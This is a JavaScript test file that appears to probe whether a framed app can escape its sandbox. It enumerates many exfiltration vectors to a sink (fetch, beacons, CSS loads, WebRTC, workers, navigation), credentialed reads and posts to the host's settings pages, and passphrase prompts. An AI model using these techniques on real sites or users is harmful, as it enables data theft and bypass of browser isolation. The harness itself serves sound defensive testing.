"use strict";

// What a page can try in order to get out of its frame. Each attempt aims at a sink of its own, at the home, or at another app; what gets
// through is seen by the sink, in the browser's network log, by the tab, or told by `got`.
const attempts = [];
const reached = new Set();

const at = (group, alone) => (name, run) => attempts.push({ group, name, alone, run });
const element = (name, attributes, parent = document.body) => {
  const made = document.createElement(name);
  Object.entries(attributes).forEach(([key, value]) => made.setAttribute(key, value));
  parent.append(made);
  return made;
};
const vector = (name, attributes, parent) => {
  const made = document.createElementNS("http://www.w3.org/2000/svg", name);
  Object.entries(attributes).forEach(([key, value]) => made.setAttribute(key, value));
  parent.append(made);
  return made;
};
const click = (attributes) => element("a", attributes).click();
const send = (attributes, name = "data", value = "stolen") => {
  const form = element("form", attributes);
  element("input", { name, value }, form);
  form.submit();
};
const own = (path) => new URL(path, location.href).href;
const styled = (property, value) => element("div", {}).style.setProperty(property, value);
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
const said = (name, value) => own("said?" + new URLSearchParams({ name, value }));
const hint = (to, rel) => `<${to}>; rel=${rel}`;
// Chromium follows such rules for no page in a frame; whether it is let read them is seen by the breach of the policy.
const speculate = async (rules, got) => {
  let refused = false;
  addEventListener("securitypolicyviolation", (event) => { refused ||= event.blockedURI === "inline"; });
  const script = document.createElement("script");
  script.type = "speculationrules";
  script.textContent = JSON.stringify(rules);
  document.head.append(script);
  await fetch(own("hostile.css"));
  if (!refused) got();
};
const drawing = () => vector("svg", { width: 40, height: 40 }, document.body);

// --- fetch and its kin
let add = at("requests", false);
add("fetch", (to) => fetch(to.sink));
add("fetch without CORS", (to) => fetch(to.sink, { mode: "no-cors", method: "POST", body: "stolen" }));
add("fetch that outlives the page", (to) => fetch(to.sink, { mode: "no-cors", keepalive: true }));
add("fetch later", (to) => fetchLater(to.sink, { activateAfter: 0 }));
add("XMLHttpRequest", (to) => { const x = new XMLHttpRequest(); x.open("GET", to.sink); x.send(); });
add("synchronous XMLHttpRequest", (to) => { const x = new XMLHttpRequest(); x.open("GET", to.sink, false); x.send(); });
add("beacon", (to) => navigator.sendBeacon(to.sink, "stolen"));
add("EventSource", (to) => new EventSource(to.sink));
add("WebSocket", (to) => new WebSocket(to.sink.replace("http", "ws")));
add("WebTransport", (to) => new WebTransport(to.sink.replace("http", "https")));

// --- what a page loads
add = at("loads", false);
add("image", (to) => { new Image().src = to.sink; });
add("image by srcset", (to) => element("img", { srcset: to.sink + " 1x" }));
add("picture", (to) => { const p = element("picture", {}); element("source", { srcset: to.sink }, p); element("img", {}, p); });
add("image button", (to) => element("input", { type: "image", src: to.sink }));
add("video", (to) => element("video", { src: to.sink, preload: "auto" }));
add("poster of a video", (to) => element("video", { poster: to.sink }));
add("audio", (to) => element("audio", { src: to.sink, preload: "auto" }));
add("captions", (to) => {
  const video = element("video", { crossorigin: "anonymous" });
  element("track", { src: to.sink, default: "" }, video).track.mode = "showing";
});
add("object", (to) => element("object", { data: to.sink }));
add("embed", (to) => element("embed", { src: to.sink }));
add("script", (to) => element("script", { src: to.sink }));
add("module script", (to) => element("script", { type: "module", src: to.sink }));
add("dynamic import", (to) => import(to.sink));
add("style sheet", (to) => element("link", { rel: "stylesheet", href: to.sink }));
add("@import", (to) => document.styleSheets[0].insertRule(`@import url("${to.sink}");`, 0));
add("@font-face", (to) => {
  const sheet = new CSSStyleSheet();
  sheet.replaceSync(`@font-face { font-family: stolen; src: url("${to.sink}"); } .stolen { font-family: stolen; }`);
  document.adoptedStyleSheets.push(sheet);
  element("p", { class: "stolen" }).textContent = "some text";
});
add("font by script", (to) => new FontFace("stolen too", `url("${to.sink}")`).load());
add("background", (to) => styled("background-image", `url("${to.sink}")`));
add("image-set", (to) => styled("background-image", `image-set("${to.sink}" 1x)`));
add("mask", (to) => styled("mask-image", `url("${to.sink}")`));
add("cursor", (to) => styled("cursor", `url("${to.sink}"), auto`));
add("list bullet", (to) => { const li = element("li", {}); li.style.listStyleImage = `url("${to.sink}")`; });
add("content of CSS", (to) => styled("content", `url("${to.sink}")`));
add("body background", (to) => document.body.setAttribute("background", to.sink));
add("SVG image", (to) => vector("image", { href: to.sink, width: 9, height: 9 }, drawing()));
add("SVG filter image", (to) => {
  const svg = drawing();
  vector("feImage", { href: to.sink }, vector("filter", { id: "leak" }, svg));
  vector("rect", { width: 9, height: 9, filter: "url(#leak)" }, svg);
});
add = at("loads", true);
add("base address", (to) => { element("base", { href: to.sink }, document.head); element("img", { src: "picture.png" }); });

// --- names, which the browser's network log tells
add = at("names", false);
add("name by DNS prefetch", (to) => element("link", { rel: "dns-prefetch", href: `//${to.name}` }, document.head));
add("name by preconnect", (to) => element("link", { rel: "preconnect", href: `http://${to.name}` }, document.head));
add("name by DNS prefetch in a header", (to) => fetch(said("Link", hint(`//${to.name}`, "dns-prefetch"))));
add("name by preconnect in a header", (to) => fetch(said("Link", hint(`http://${to.name}`, "preconnect"))));

// --- hints
add = at("hints", false);
add("prefetch", (to) => element("link", { rel: "prefetch", href: to.sink }, document.head));
add("preconnect", (to) => element("link", { rel: "preconnect", href: to.sink }, document.head));
add("preload", (to) => element("link", { rel: "preload", as: "image", href: to.sink }, document.head));
add("module preload", (to) => element("link", { rel: "modulepreload", href: to.sink }, document.head));
add("rules to prefetch are taken", (to, got) => speculate({ prefetch: [{ urls: [to.sink], eagerness: "immediate" }] }, got));
add("rules to prerender are taken", (to, got) => speculate({ prerender: [{ urls: [to.home], eagerness: "immediate" }] }, got));
add("preconnect in a header", (to) => fetch(said("Link", hint(to.sink, "preconnect"))));

// --- headers of a page of the app's own: what they do, and whether they arrive where a browser would act on them later or over TLS alone
add = at("headers", true);
add("Refresh of a page", (to) => { location = said("Refresh", `0;url=${to.sink}`); });
add("preload by a page's header", (to) => { location = said("Link", hint(to.sink, "preload") + "; as=image"); });
add("preconnect by a page's header", (to) => { location = said("Link", hint(to.sink, "preconnect")); });
add("prefetch by a page's header", (to) => { location = said("Link", hint(to.sink, "prefetch")); });
add("module preload by a page's header", (to) => { location = said("Link", hint(to.sink, "modulepreload")); });
add("report of a policy's breach", (to) => {
  location = said("Content-Security-Policy-Report-Only", `script-src 'none'; report-uri ${to.sink}`);
});
add = at("headers", false);
["Accept-CH", "Alt-Svc", "Document-Policy", "Link", "NEL", "Origin-Trial", "Refresh", "Report-To", "Reporting-Endpoints",
  "Service-Worker-Allowed", "Set-Login", "Speculation-Rules",
].forEach((name) => add(name + " arrives", (to, got) =>
  fetch(said(name, "stolen")).then((answer) => answer.headers.get(name) === "stolen" && got())));

// --- WebRTC
add = at("WebRTC", true);
const call = async (realm, servers) => {
  const peer = new realm.RTCPeerConnection({ iceServers: servers });
  peer.createDataChannel("stolen");
  await peer.setLocalDescription(await peer.createOffer());
  return peer;
};
const stun = (to) => [{ urls: `stun:127.0.0.1:${to.port}` }];
const turn = (to, how) => [{ urls: `turn:127.0.0.1:${to.port}?transport=${how}`, username: "stolen", credential: "data" }];
add("STUN", (to) => call(window, stun(to)));
add("TURN over UDP", (to) => call(window, turn(to, "udp")));
add("TURN over TCP", (to) => call(window, turn(to, "tcp")));
add("STUN by the prefixed name", (to) => {
  const peer = new webkitRTCPeerConnection({ iceServers: stun(to) });
  peer.createDataChannel("stolen");
  return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
});
add("STUN from an empty frame", (to) => call(element("iframe", {}).contentWindow, stun(to)));
add("STUN from a frame in a frame", (to) => {
  const outer = element("iframe", {}).contentWindow;
  call(element("iframe", {}, outer.document.body).contentWindow, stun(to));
});
add("STUN from a written document", (to) => {
  const inner = element("iframe", {}).contentWindow;
  inner.document.open();
  inner.document.write("<p>written</p>");
  inner.document.close();
  call(inner, stun(to));
});
add("STUN from a srcdoc frame", (to) => {
  const frame = element("iframe", { srcdoc: "<p>inside</p>" });
  frame.onload = () => call(frame.contentWindow, stun(to));
});
add("STUN from a blob frame", (to) => {
  const frame = element("iframe", { src: blob("<p>inside</p>", "text/html") });
  frame.onload = () => call(frame.contentWindow, stun(to));
});
add("STUN from a javascript: frame", (to) => call(element("iframe", { src: "javascript:1" }).contentWindow, stun(to)));
add("a data channel to a given candidate", async (to) => {
  const caller = await call(window, []);
  const answerer = new RTCPeerConnection();
  await answerer.setRemoteDescription(caller.localDescription);
  await answerer.setLocalDescription(await answerer.createAnswer());
  await caller.setRemoteDescription(answerer.localDescription);
  await caller.addIceCandidate({ candidate: `candidate:1 1 udp 2122260223 127.0.0.1 ${to.port} typ host`, sdpMid: "0" });
});

// --- realms with other rules
add = at("realms", false);
add("frame", (to) => element("iframe", { src: to.sink }));
add("image in a srcdoc frame", (to) => element("iframe", { srcdoc: `<img src="${to.sink}">` }));
add("script in a srcdoc frame", (to) => element("iframe", { srcdoc: `<script>fetch("${to.sink}")</script>` }));
add("image in a blob frame", (to) => element("iframe", { src: blob(`<img src="${to.sink}">`, "text/html") }));
add("image in a data frame", (to) => element("iframe", { src: `data:text/html,<img src="${to.sink}">` }));
add("fetch of an empty frame", (to) => element("iframe", {}).contentWindow.fetch(to.sink));
add("frame that navigates itself", (to) => { element("iframe", {}).contentWindow.location = to.sink; });
add("javascript: frame", (to) => element("iframe", { src: `javascript:fetch("${to.sink}")` }));
add("inline script", (to) => {
  const script = document.createElement("script");
  script.textContent = `fetch("${to.sink}")`;
  document.body.append(script);
});
add("inline handler", (to) => element("img", { src: "data:,", onerror: `fetch("${to.sink}")` }));
add("eval", (to) => eval(`fetch("${to.sink}")`));
add("worker", (to) => new Worker(own("worker.js#" + to.sink), { name: to.sink }));
add("blob worker", (to) => new Worker(blob(`fetch("${to.sink}")`, "text/javascript")));
add("data worker", (to) => new Worker(`data:text/javascript,fetch("${to.sink}")`));
add("shared worker", (to) => new SharedWorker(own("worker.js"), { name: to.sink }));
add("service worker", (to) => navigator.serviceWorker.register("service.js?" + to.sink, { scope: "/covered/none/" }));
add("XSLT", (to) => {
  const sheet = new DOMParser().parseFromString(
    `<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><img src="${to.sink}"/></x:template></x:stylesheet>`,
    "text/xml");
  const transform = new XSLTProcessor();
  transform.importStylesheet(sheet);
  document.body.append(transform.transformToFragment(new DOMParser().parseFromString("<a/>", "text/xml"), document));
});

// --- navigation
add = at("navigation", true);
add("own location", (to) => { location = to.sink + "?stolen"; });
add("location.replace", (to) => location.replace(to.sink));
add("link", (to) => click({ href: to.sink }));
add("link to the top", (to) => click({ href: to.sink, target: "_top" }));
add("link to a new tab", (to) => click({ href: to.sink, target: "_blank" }));
add("link that downloads", (to) => click({ href: to.sink, download: "" }));
add("link with a ping", (to) => click({ href: "#here", ping: to.sink }));
add("area of an image map", (to) => element("area", { href: to.sink }, element("map", {})).click());
add("refresh", (to) => element("meta", { "http-equiv": "refresh", content: `0;url=${to.sink}` }, document.head));
add("form", (to) => send({ action: to.sink, method: "post" }));
add("form by GET", (to) => send({ action: to.sink, method: "get" }));
add("form to the top", (to) => send({ action: to.sink, target: "_top" }));
add("form to a new tab", (to) => send({ action: to.sink, target: "_blank" }));
add("base and link", (to) => { element("base", { href: to.sink }, document.head); click({ href: "next" }); });
add("location of the parent", (to) => { parent.location = to.sink; });
add("location of the top, replaced", (to) => top.location.replace(to.sink));
add("window.open", (to) => window.open(to.sink));
add("window.open without opener", (to) => window.open(to.sink, "", "noopener,noreferrer"));
add("window.open onto the parent", (to) => window.open(to.sink, "_parent"));
add("empty popup that navigates", (to) => { window.open("about:blank").location = to.sink; });
add("navigation API", (to) => navigation.navigate(to.sink));
add("blob page", (to) => { location = blob(`<img src="${to.sink}"><script>fetch("${to.sink}")</script>`, "text/html"); });
add("data page", (to) => { location = `data:text/html,<img src="${to.sink}">`; });
add("page made by a service worker", async (to) => {
  const registration = await navigator.serviceWorker.register("service.js", { scope: "/covered/" });
  const worker = registration.installing || registration.waiting || registration.active;
  const go = () => { if (worker.state === "activated") location = "/covered/page?" + encodeURIComponent(to.sink); };
  worker.addEventListener("statechange", go);
  go();
});
// What a browser lets nobody push, an address of another origin, is no attempt.
add("history, going back", () => { history.go(-1); history.back(); });
add("history, back past what was pushed", () => { history.pushState(null, "", own("pushed")); history.go(-2); });
add("history, back past much that was pushed", () => {
  for (let n = 0; n < 20; n++) history.pushState(null, "", own("pushed-" + n));
  history.go(-21);
});
add("history, back from another app's likeness", (to) => {
  history.replaceState(null, "", own("apps/hello"));
  history.back();
});
add("history, back past a fragment", () => { location = "#fragment"; setTimeout(() => history.go(-2)); });
add("history of an empty frame", () => element("iframe", {}).contentWindow.history.back());
add("history of a second page", () => { location = said("X-Then", "back") + "#back"; });
add("history by a javascript: link", () => click({ href: "javascript:history.back()" }));

// --- the home, and other apps
add = at("home", false);
add("reading the home", (to, got) => fetch(to.home + "/settings?" + to.mark, { credentials: "include" }).then((r) => r.text()).then(got));
add("fetching the home blindly", (to) => fetch(to.home + "/settings?" + to.mark, { mode: "no-cors", credentials: "include" }));
add("posting to the home", (to) => fetch(to.home + "/network?" + to.mark, { method: "POST", mode: "no-cors", body: "on=yes" }));
add("events of the home", (to, got) => { new EventSource(to.home + "/events?" + to.mark, { withCredentials: true }).onopen = got; });
add("a script of the home", (to, got) => { element("script", { src: to.home + "/state?" + to.mark }).onload = got; });
add("a picture of the home", (to, got) => { element("img", { src: to.home + "/apps/hello/icon?" + to.mark }).onload = got; });
add("framing the page of consent", (to) => element("iframe", { src: to.home + to.consent + "?" + to.mark }));
add("embedding the page of consent", (to) => element("object", { data: to.home + to.consent + "?" + to.mark }));
add("prefetching the home", (to) => element("link", { rel: "prefetch", href: to.home + "/apps?" + to.mark }, document.head));
add("reading another app", (to, got) => fetch(to.other + "/?" + to.mark, { credentials: "include" }).then((r) => r.text()).then(got));
add("framing another app", (to) => element("iframe", { src: to.other + "/?" + to.mark }));
add("posting to another app", (to) => fetch(to.other + "/?" + to.mark, { method: "POST", mode: "no-cors", credentials: "include" }));
add("a picture of another app", (to, got) => { element("img", { src: to.other + "/icon.svg?" + to.mark }).onload = got; });
add("a message that the home answers", (to, got) => {
  addEventListener("message", (event) => event.data === "answer" && got());
  parent.postMessage("question", "*");
});

add = at("home by navigation", true);
add("the page of consent in the app's place", (to) => { location = to.home + to.consent + "?" + to.mark; });
add("a picture of another app by a page's header", (to) => {
  location = said("Link", hint(to.other + "/icon.svg?" + to.mark, "preload") + "; as=image");
});
add("another app in the app's place", (to) => { location = to.other + "/?" + to.mark; });
add("the page of consent in a popup", (to) => window.open(to.home + to.consent + "?" + to.mark, "", "width=200,height=200"));
add("a form to the home, in the app's place", (to) => send({ action: to.home + "/network?" + to.mark, method: "post" }, "on", "yes"));
add("a form to the home, at the top", (to) => send({ action: to.home + "/network?" + to.mark, method: "post", target: "_top" }, "on", "yes"));
add("the top sent to another page of the home", (to) => { top.location = to.home + "/settings?" + to.mark; });

// --- the person's eyes, hands and machine
add = at("person", true);
add("confirm and alert", (to, got) => confirm("Your passphrase?") && got());
add("prompt", (to, got) => prompt("Your passphrase?") !== null && got());
add("print", (to, got) => { addEventListener("beforeprint", got); print(); });
add("full screen", (to, got) => document.body.requestFullscreen().then(got));
add("pointer lock", (to, got) => { document.addEventListener("pointerlockchange", got); document.body.requestPointerLock(); });
add("picture in picture", async (to, got) => {
  const canvas = element("canvas", {});
  canvas.getContext("2d").fillRect(0, 0, 9, 9);
  const video = element("video", {});
  video.muted = true;
  video.srcObject = canvas.captureStream();
  await video.play();
  await video.requestPictureInPicture();
  got();
});
add("reading the clipboard", (to, got) => { focus(); return navigator.clipboard.readText().then(got); });
add("place", (to, got) => navigator.geolocation.getCurrentPosition(got));
add("keyboard layout", (to, got) => navigator.keyboard.getLayoutMap().then(got));
add("local fonts", (to, got) => queryLocalFonts().then(got));

// What needs a device or a click is asked of the policy.
add = at("features", false);
["accelerometer", "autoplay", "camera", "captured-surface-control", "compute-pressure", "deferred-fetch-minimal", "digital-credentials-get",
  "display-capture", "encrypted-media", "gyroscope", "hid", "identity-credentials-get", "idle-detection", "language-model", "local-network",
  "local-network-access", "loopback-network", "magnetometer", "microphone", "midi", "otp-credentials", "payment",
  "private-state-token-redemption", "publickey-credentials-create", "publickey-credentials-get", "screen-wake-lock", "serial",
  "speaker-selection", "storage-access", "translator", "usb", "window-management", "xr-spatial-tracking",
].forEach((feature) => add(feature, (to, got) => document.featurePolicy.allowsFeature(feature) && got()));

// Makes an attempt and waits for nothing.
const start = (name, to) => {
  const attempt = attempts.find((each) => each.name === name);
  const got = () => reached.add(name);
  try {
    Promise.resolve(attempt.run(to, got)).catch((refusal) => console.log(name + ": " + refusal));
  } catch (refusal) {
    console.log(name + ": " + refusal);
  }
};

// A second page of the attempt with its history.
if (location.hash === "#back") addEventListener("load", () => setTimeout(() => history.go(-2)));
